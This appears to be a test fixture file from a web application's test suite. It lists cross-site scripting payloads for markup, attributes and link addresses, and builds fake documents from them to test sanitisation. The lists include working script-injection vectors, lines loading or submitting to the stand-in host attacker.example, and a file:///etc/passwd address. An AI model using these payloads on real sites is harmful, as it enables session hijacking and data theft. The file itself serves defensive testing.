/** What somebody might put into a document, its metadata or an address to run a script on a page that shows it. */

import type { DocumentReply } from '../../src/api/documents.js';
import { EXAMPLES } from '../../src/api/examples.js';

const RUN = 'alert(document.domain)';

/** Markup for text, for attributes of either quote, for raw text elements, for parsers that mend what is broken. */
export const MARKUP_PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<style>@import 'https://attacker.example/x.css'</style>`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `<form action="https://attacker.example/"><button>x</button></form>`,
  `" onmouseover="${RUN}" x="`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `\u0000<scr\u0000ipt>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

/** Addresses that must not become links. */
export const ADDRESS_PAYLOADS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `//attacker.example/x`,
  `file:///etc/passwd`,
  `https:javascript:${RUN}`,
];

/** A document that is nothing but the payload: title, headings, run-in leads, text, names and addresses. */
export function createHostileDocument(payload: string, address: string = payload): DocumentReply {
  const line = payload.replaceAll('\n', ' ');
  const text = `${line}\n${line}。${line}\n${line}`;
  const heading = { level: 1, heading: line, start: 0, end: line.length };
  const lead = { level: 2, heading: line, start: line.length + 1, end: 2 * line.length + 1 };
  const document = {
    ...EXAMPLES.IndexedDocument,
    title: payload,
    region: payload,
    delivered: payload,
    published: payload,
    speaker: payload,
    publisher: payload,
    url: address,
    source: payload,
    sources: [{ source: payload, url: address }],
    basedOn: { title: payload, publisher: payload, url: address },
  };
  const passage = { id: 'x-1', headingPath: [line, line], start: line.length + 1, end: text.length };
  return {
    document,
    text,
    outline: [heading, lead],
    passages: [{ ...passage, paragraph: 2, page: 1 }],
    dropped: [{ text: '', length: payload.length, reason: payload }],
  };
}
